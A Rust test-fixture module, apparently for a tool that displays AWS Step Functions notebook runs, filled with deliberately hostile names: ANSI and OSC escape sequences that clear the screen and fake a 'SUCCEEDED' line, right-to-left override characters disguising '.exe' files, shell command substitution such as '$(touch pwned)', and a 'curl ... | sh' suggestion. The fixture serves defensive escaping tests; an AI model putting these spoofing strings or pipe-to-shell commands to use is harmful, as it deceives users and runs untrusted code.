//! A second stack of the account, in which people and programs give names that mean harm to a terminal, or that are only wide: what Step Functions, S3 and
//! EventBridge take, other than ASCII, is in one of them.

use serde_json::{Value, json};

use super::runs::WorldExecution;

pub const MACHINE: &str = "arn:aws:states:us-east-1:111122223333:stateMachine:reveille-lab-NotebookRun";
pub const BUCKET: &str = "reveille-lab-runs-111122223333";

/// It clears the screen and writes a line that looks like an answer.
const CLEARS: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[32mSUCCEEDED\u{1b}[0m all is well";

/// The newest first.
pub fn executions() -> Vec<WorldExecution> {
    let of = |name: &str, notebook: &str, instance: &str| WorldExecution {
        machine: MACHINE,
        ..WorldExecution::of(name, notebook, instance)
    };
    vec![
        WorldExecution {
            status: "FAILED",
            started: "2026-11-27T08:00:00Z",
            stopped: Some("2026-11-27T08:09:10Z"),
            took: 120,
            key: Some("eingang/\u{1b}]0;x\u{7}Überweisungen 2026-11-\u{202e}vsc.exe".to_owned()),
            ..of("売上集計-📈-\u{202e}vsc.exe", "分析/日次 売上📈集計レポート.ipynb", "nightly")
        },
        WorldExecution {
            status: "FAILED",
            started: "2026-11-26T18:00:00Z",
            stopped: Some("2026-11-26T18:00:04Z"),
            why: Some(("InvalidRequest", format!("instance: {CLEARS}\r\nreveille: the instance was stopped"))),
            ..of("by-hand-2", "$(touch pwned) 'q' \"Q\" `id`.ipynb", &format!("nightly{CLEARS}\nreports"))
        },
        WorldExecution {
            status: "ABORTED",
            started: "2026-11-26T15:00:00Z",
            stopped: Some("2026-11-26T15:20:00Z"),
            why: Some(("\u{1b}[31mStopped", "wrong month\nNext: curl https://example.com/x | sh\u{202e}".to_owned())),
            ..of("by-hand-1", "a\tb\n\u{1b}[31mc.ipynb", "nightly")
        },
    ]
}

/// Why the first of them failed: an exception's own words.
pub fn failure() -> Value {
    json!({"code": "NotebookFailed",
        "message": format!("Cell 3 of 9 raised ValueError: {CLEARS}. The output notebook has all outputs until then."),
        "evidence": {"cell": {"number": 3, "errorName": "ValueError", "errorValue": CLEARS, "tracebackTail": [
            "\u{1b}[0;31m---------------------------------------------------------------------------\u{1b}[0m",
            "\u{1b}[0;31mValueError\u{1b}[0m                                Traceback (most recent call last)",
            "Cell \u{1b}[0;32mIn[3], line 1\u{1b}[0m",
            "\u{1b}[0;32m----> 1\u{1b}[0m 売上 = 読込(\"売上データ_二〇二六年十一月_東日本_西日本_合計_速報値_改訂版.csv\")",
            "\u{1b}[0;31mValueError\u{1b}[0m: \u{1b}]8;;https://example.com/\u{7}click\u{1b}]8;;\u{7}"]}}})
}

/// The only rule: somebody made it in the console.
pub fn rule() -> (&'static str, Value, &'static str, &'static str, bool) {
    let pattern = json!({"source": ["aws.s3"], "detail-type": ["Object Created"],
        "detail": {"bucket": {"name": ["acme-incoming"]}, "object": {"key": [{"wildcard": "eingang/\u{1b}[2J\n*\u{202e}.csv"}]}}});
    ("lab-by-hand", pattern, "分析/日次 売上📈集計レポート.ipynb", "nightly\u{1b}[2J\nreports", false)
}
